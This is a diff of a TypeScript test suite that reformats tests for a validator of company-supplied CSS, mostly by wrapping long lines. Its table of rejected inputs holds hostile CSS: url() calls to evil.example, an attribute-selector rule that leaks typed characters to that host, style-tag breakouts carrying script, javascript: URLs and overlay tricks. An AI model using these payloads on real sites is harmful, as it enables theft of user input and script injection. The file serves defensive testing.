@@ -11,17 +11,41 @@ const ATTACKS: readonly (readonly [what: string, css: string, told: RegExp])[] =
   ['another sheet within a rule for screens', '@media screen { @import "a.css"; }', /@import/],
   ['another sheet by an escape', '@\\69mport "a.css";', /not allowed/],
   ['an image', 'a { background: url(https://evil.example/a.png) }', /Nothing is loaded/],
-  ['an image in quotes', 'a { background-image: url("https://evil.example/?x") }', /Nothing is loaded/],
-  ['an image of the page itself', 'a { background: url(data:image/svg+xml,<svg/>) }', /Nothing is loaded/],
+  [
+    'an image in quotes',
+    'a { background-image: url("https://evil.example/?x") }',
+    /Nothing is loaded/,
+  ],
+  [
+    'an image of the page itself',
+    'a { background: url(data:image/svg+xml,<svg/>) }',
+    /Nothing is loaded/,
+  ],
   ['an image by an escape', 'a { background: u\\72l(a.png) }', /not understood|not allowed here/],
   ['an image in capitals', 'a { background: URL(//evil.example/a.png) }', /Nothing is loaded/],
   ['an image by a set', 'a { background: image-set("a.png" 1x) }', /Nothing is loaded/],
   ['an image by src()', 'a { background: src("a.png") }', /Nothing is loaded/],
-  ['an image by cross-fade()', 'a { background: cross-fade(url(a.png), red) }', /Nothing is loaded/],
-  ['an image by a variable', 'a { --client-x: url(//evil.example/a.png); background: var(--client-x) }', /Nothing is loaded/],
-  ['an image where a variable is missing', 'a { background: var(--client-x, url(//evil.example/a.png)) }', /Nothing is loaded/],
+  [
+    'an image by cross-fade()',
+    'a { background: cross-fade(url(a.png), red) }',
+    /Nothing is loaded/,
+  ],
+  [
+    'an image by a variable',
+    'a { --client-x: url(//evil.example/a.png); background: var(--client-x) }',
+    /Nothing is loaded/,
+  ],
+  [
+    'an image where a variable is missing',
+    'a { background: var(--client-x, url(//evil.example/a.png)) }',
+    /Nothing is loaded/,
+  ],
   ['a font', '@font-face { font-family: x; src: url(//evil.example/x.woff2) }', /@font-face/],
-  ['what was typed, letter by letter', 'input[value^="a"] { background: url(//evil.example/a) }', /Nothing is loaded/],
+  [
+    'what was typed, letter by letter',
+    'input[value^="a"] { background: url(//evil.example/a) }',
+    /Nothing is loaded/,
+  ],
   ['a sheet under another alphabet', '@charset "utf-7"; a { color: red }', /@charset/],
   ['another language of names', '@namespace svg url(http://www.w3.org/2000/svg);', /@namespace/],
   // Running something.
@@ -29,7 +53,11 @@ const ATTACKS: readonly (readonly [what: string, css: string, told: RegExp])[] =
   ['a behaviour', 'a { behavior: url(a.htc) }', /behavior/],
   ['a binding', 'a { -moz-binding: url(a.xml#x) }', /-moz-binding/],
   ['a filter', 'a { filter: progid:DXImageTransform.Microsoft.gradient() }', /filter|not CSS/],
-  ['a script behind the sheet', 'a { color: red } </style><script>alert(1)</script>', /Tags of HTML/],
+  [
+    'a script behind the sheet',
+    'a { color: red } </style><script>alert(1)</script>',
+    /Tags of HTML/,
+  ],
   ['a script in a comment', '/* </style><script>alert(1)</script> */', /Tags of HTML/],
   ['the comment of a page', '<!-- a { color: red } -->', /Tags of HTML/],
   ['a script by its address', 'a { background: javascript:alert(1) }', /./],
@@ -41,16 +69,40 @@ const ATTACKS: readonly (readonly [what: string, css: string, told: RegExp])[] =
   ['the same by a large number', 'a { box-shadow: 0 0 0 1e9px #fff }', /too large/],
   ['the same by arithmetic', 'a { box-shadow: 0 0 0 calc(60px * 100) #fff }', /calc\(\)/],
   ['the same by the window', 'a { padding: 100vh }', /vh/],
-  ['the same by a variable', ':root { --client-x: 9999px } a { outline: var(--client-x) solid red }', /too large/],
+  [
+    'the same by a variable',
+    ':root { --client-x: 9999px } a { outline: var(--client-x) solid red }',
+    /too large/,
+  ],
   ['what is drawn over others by moving', 'a { margin: -64px }', /move things/],
   ['the same where a variable is missing', 'a { margin: var(--client-x, -64px) }', /move things/],
-  ['lines as high as the window where a variable is missing', 'a { line-height: var(--client-x, 900) }', /too large/],
-  ['a large measure of the widgets', 'a { padding: var(--mantine-breakpoint-xl) }', /--mantine-breakpoint-xl/],
+  [
+    'lines as high as the window where a variable is missing',
+    'a { line-height: var(--client-x, 900) }',
+    /too large/,
+  ],
+  [
+    'a large measure of the widgets',
+    'a { padding: var(--mantine-breakpoint-xl) }',
+    /--mantine-breakpoint-xl/,
+  ],
   ['the same by an escape', 'a { padding: var(\\2d-mantine-breakpoint-xl) }', /./],
-  ['the same as what another variable holds', ':root { --client-x: var(--mantine-breakpoint-xl) } a { padding: var(--client-x) }', /--mantine-breakpoint-xl/],
+  [
+    'the same as what another variable holds',
+    ':root { --client-x: var(--mantine-breakpoint-xl) } a { padding: var(--client-x) }',
+    /--mantine-breakpoint-xl/,
+  ],
   ['spaces as wide as the window', 'header { padding: 200% }', /too large/],
-  ['the same by a variable', ':root { --client-x: 100% } header { margin-left: var(--client-x) }', /too large/],
-  ['letters that grow within each other, and a shadow measured by them', ':root { font-size: 64px } body { font-size: 4em } main { font-size: 4em; box-shadow: 0 0 0 4em #fff }', /A font size is/],
+  [
+    'the same by a variable',
+    ':root { --client-x: 100% } header { margin-left: var(--client-x) }',
+    /too large/,
+  ],
+  [
+    'letters that grow within each other, and a shadow measured by them',
+    ':root { font-size: 64px } body { font-size: 4em } main { font-size: 4em; box-shadow: 0 0 0 4em #fff }',
+    /A font size is/,
+  ],
   ['the same in short', 'body { font: 4em/1.2 serif }', /A font size is/],
   ['the same by a share', '* { font-size: 200% }', /A font size is/],
   ['the same by a word', '* { font-size: larger }', /A font size is/],
@@ -87,15 +139,51 @@ describe("the check of a company's own style", () => {
   });
 
   it.each([
-    ['colours and corners of the product', ':root { --accent-fill: #123456; --radius: 2px }', ':root{--accent-fill:#123456;--radius:2px}'],
-    ['variables of its own', ':root { --client-gold: oklch(80% 0.1 90) } h1 { color: var(--client-gold, gold) }', ':root{--client-gold:oklch(80%0.1 90)}h1{color:var(--client-gold,gold)}'],
-    ['what is important', 'a:hover, a[href^="/pulses"] { text-decoration: underline !important }', 'a:hover,a[href^="/pulses"]{text-decoration:underline!important}'],
-    ['small windows and dark rooms', '@media (width < 600px) and (prefers-color-scheme: dark) { body { line-height: 1.6 } }', '@media (width<600px) and (prefers-color-scheme:dark){body{line-height:1.6}}'],
-    ['rules within rules', 'nav { & a { font-weight: 700; letter-spacing: -0.02em } }', 'nav{& a{font-weight:700;letter-spacing:-0.02em}}'],
-    ['gradients', 'h1 { background: linear-gradient(90deg, #fff 0%, #eee 100%) }', 'h1{background:linear-gradient(90deg,#fff 0%,#eee 100%)}'],
-    ['sizes of type, alone and in short', 'h1 { font-size: 2rem } p { font: 700 14px/1.5 serif } small { font-size: x-small }', 'h1{font-size:2rem}p{font:700 14px/1.5 serif}small{font-size:x-small}'],
-    ['names of fonts', 'h1 { font-family: "Iowan Old Style", serif }', 'h1{font-family:"Iowan Old Style",serif}'],
-    ['comments, which are not served', '/* the blue of 2024 */ a { color: #0000ff } /*! kept? */', 'a{color:#0000ff}'],
+    [
+      'colours and corners of the product',
+      ':root { --accent-fill: #123456; --radius: 2px }',
+      ':root{--accent-fill:#123456;--radius:2px}',
+    ],
+    [
+      'variables of its own',
+      ':root { --client-gold: oklch(80% 0.1 90) } h1 { color: var(--client-gold, gold) }',
+      ':root{--client-gold:oklch(80%0.1 90)}h1{color:var(--client-gold,gold)}',
+    ],
+    [
+      'what is important',
+      'a:hover, a[href^="/pulses"] { text-decoration: underline !important }',
+      'a:hover,a[href^="/pulses"]{text-decoration:underline!important}',
+    ],
+    [
+      'small windows and dark rooms',
+      '@media (width < 600px) and (prefers-color-scheme: dark) { body { line-height: 1.6 } }',
+      '@media (width<600px) and (prefers-color-scheme:dark){body{line-height:1.6}}',
+    ],
+    [
+      'rules within rules',
+      'nav { & a { font-weight: 700; letter-spacing: -0.02em } }',
+      'nav{& a{font-weight:700;letter-spacing:-0.02em}}',
+    ],
+    [
+      'gradients',
+      'h1 { background: linear-gradient(90deg, #fff 0%, #eee 100%) }',
+      'h1{background:linear-gradient(90deg,#fff 0%,#eee 100%)}',
+    ],
+    [
+      'sizes of type, alone and in short',
+      'h1 { font-size: 2rem } p { font: 700 14px/1.5 serif } small { font-size: x-small }',
+      'h1{font-size:2rem}p{font:700 14px/1.5 serif}small{font-size:x-small}',
+    ],
+    [
+      'names of fonts',
+      'h1 { font-family: "Iowan Old Style", serif }',
+      'h1{font-family:"Iowan Old Style",serif}',
+    ],
+    [
+      'comments, which are not served',
+      '/* the blue of 2024 */ a { color: #0000ff } /*! kept? */',
+      'a{color:#0000ff}',
+    ],
     ['nothing', '', ''],
   ])('[RT-48, NAV-31] lets through %s, written anew', (_what, css, sheet) => {
     const checked = checkClientCss(css);
@@ -104,18 +192,51 @@ describe("the check of a company's own style", () => {
   });
 
   it('[RT-48] tells the line and the column, in their order, and counts what is beyond the first few', () => {
-    const told = cssFaultTexts(checkClientCss('a {\n  color: red;\n  position: fixed;\n}\n\nb { background: url(x) }').faults);
+    const told = cssFaultTexts(
+      checkClientCss('a {\n  color: red;\n  position: fixed;\n}\n\nb { background: url(x) }')
+        .faults,
+    );
     expect(told).toEqual([
       'Line 3, column 3: position is not allowed here. A style says how things look, not where they stand or whether they are there.',
       'Line 6, column 17: Nothing is loaded by a style. A logo can be uploaded above.',
     ]);
-    const many = cssFaultTexts(checkClientCss('a { float: left }\n'.repeat(CLIENT_CSS_MAX_FAULTS + 3)).faults);
+    const many = cssFaultTexts(
+      checkClientCss('a { float: left }\n'.repeat(CLIENT_CSS_MAX_FAULTS + 3)).faults,
+    );
     expect(many).toHaveLength(CLIENT_CSS_MAX_FAULTS + 1);
     expect(many.at(-1)).toBe('And 3 more.');
   });
 
   it('[RT-48] says the same of what it serves as of what it was given, and never fails, whatever is typed', () => {
-    const pieces = fc.constantFrom(...ATTACKS.map(([, css]) => css.slice(0, 60)), 'a', '{', '}', ';', ':', 'color', 'red', '\\', '"', "'", '/*', '*/', '@media', '(', ')', 'url(', '\u0000', '\uFEFF', '--client-x', 'var(--ink)', '64px', '!important', ',', '\n', '<', '>');
+    const pieces = fc.constantFrom(
+      ...ATTACKS.map(([, css]) => css.slice(0, 60)),
+      'a',
+      '{',
+      '}',
+      ';',
+      ':',
+      'color',
+      'red',
+      '\\',
+      '"',
+      "'",
+      '/*',
+      '*/',
+      '@media',
+      '(',
+      ')',
+      'url(',
+      '\u0000',
+      '\uFEFF',
+      '--client-x',
+      'var(--ink)',
+      '64px',
+      '!important',
+      ',',
+      '\n',
+      '<',
+      '>',
+    );
     fc.assert(
       fc.property(fc.array(pieces, { maxLength: 12 }), (parts) => {
         const { sheet } = checkClientCss(parts.join(' '));
